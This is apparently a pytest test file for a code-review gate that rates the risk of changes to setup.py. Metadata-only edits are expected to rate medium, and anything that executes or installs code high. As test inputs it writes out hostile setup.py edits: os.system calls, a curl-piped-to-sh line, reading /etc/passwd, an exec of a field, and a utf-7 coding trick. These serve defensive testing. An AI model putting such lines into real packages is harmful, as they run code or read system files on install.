"""A setup.py change that only edits package metadata literals routes like a manifest (medium);
anything that runs, installs or evaluates stays high (gates/literals.py)."""

from __future__ import annotations

import pytest

from gates import changes
from gates.classify import Rules, classify
from gates.gitrepo import GitRepo
from gates.model import FileClass
from gates.policy import source

from .conftest import Repo

SETUP = '''\
import os

from setuptools import find_packages, setup

here = os.path.dirname(__file__)

setup(
    name="app",
    version="1.0",
    description="An app",
    python_requires=">=3.8",
    install_requires=["attrs>=19", "click"],
    classifiers=[
        "Programming Language :: Python :: 3.8",
    ],
    packages=find_packages(exclude=("tests",)),
    entry_points={"console_scripts": ["app = app.cli:main"]},
)
'''


def judged(repo: Repo, before: str, after: str, path: str = "setup.py") -> FileClass:
    repo.write(path, before)
    repo.commit("before")
    repo.write(path, after)
    rules = Rules(source.default())
    (fc,) = classify(rules, changes.staged(GitRepo(repo.root), rules.wants_text)).files
    return fc


@pytest.mark.parametrize("after", [
    SETUP.replace('"attrs>=19", "click"', '"attrs>=19,<24", "click>=8"'),
    SETUP.replace('        "Programming Language :: Python :: 3.8",\n',
                  '        "Programming Language :: Python :: 3.8",\n'
                  '        "Programming Language :: Python :: 3.12",\n'),
    SETUP.replace('    python_requires=">=3.8",\n', '    python_requires=">=3.9",\n'
                  '    project_urls={"Source": "https://example.org/app"},\n'),
    SETUP.replace('description="An app"', 'description="An application"')
    .replace('"1.0"', '"1.1"'),
])
def test_metadata_literals_are_not_code(repo: Repo, after: str) -> None:
    fc = judged(repo, SETUP, after)
    assert fc.tier == "medium", fc.matches
    (lowered,) = [m for m in fc.matches if m.rule == "runs-code.version-only"]
    assert (lowered.evidence.text or "").startswith(("package metadata only: ",
                                                      "version bump only: "))


@pytest.mark.parametrize("after", [
    # keywords that install or run something
    SETUP.replace('"app = app.cli:main"', '"ls = app.cli:main"'),
    SETUP.replace('    name="app",\n', '    name="app",\n    scripts=["bin/app"],\n'),
    SETUP.replace('    name="app",\n', '    name="app",\n    data_files=[("/etc", ["x"])],\n'),
    SETUP.replace('    name="app",\n', '    name="app",\n    setup_requires=["evil"],\n'),
    SETUP.replace('exclude=("tests",)', 'exclude=("tests", "docs")'),
    # values that are code, not literals
    SETUP.replace('description="An app"', 'description=f"An app {os.system(\'id\')}"'),
    SETUP.replace('description="An app"', 'description=open("/etc/passwd").read()'),
    SETUP.replace('"1.0"', '"1." + "1"'),
    SETUP.replace('"1.0"', "here"),
    # anything outside setup()'s metadata
    SETUP.replace("here = os.path.dirname(__file__)", "here = os.getcwd()"),
    SETUP.replace('"1.0"', '"1.1"') + "os.system('curl x | sh')\n",
    SETUP.replace("import os\n", "import os\nimport evil\n"),
])
def test_anything_that_runs_or_installs_stays_high(repo: Repo, after: str) -> None:
    assert judged(repo, SETUP, after).tier == "high"


def test_a_setup_of_the_repositorys_own_is_not_setuptools(repo: Repo) -> None:
    """A base whose setup() is its own function could do anything with the metadata."""
    own = SETUP.replace("from setuptools import find_packages, setup\n",
                        "from setuptools import find_packages\n\n\ndef setup(**kw):\n"
                        "    exec(kw['description'])\n")
    after = own.replace('description="An app"', 'description="import os; os.system(\'id\')"')
    assert judged(repo, own, after).tier == "high"
    aliased = SETUP.replace("find_packages, setup", "find_packages, setup as _real").replace(
        "import os\n", "import os\nfrom mybuild import setup\n")
    assert judged(repo, aliased, aliased.replace('"An app"', '"An application"')).tier == "high"


def test_only_a_file_named_setup_py_and_only_as_python_reads_it(repo: Repo) -> None:
    assert judged(repo, SETUP, SETUP.replace('"click"', '"click>=8"'),
                  path="tools/build_setup.py").tier == "low"
    # a coding declaration that changes how Python reads the file: never data
    coded = "# -*- coding: utf-7 -*-\n" + SETUP
    assert judged(repo, coded, coded.replace('"click"', '"click>=8"')).tier == "high"
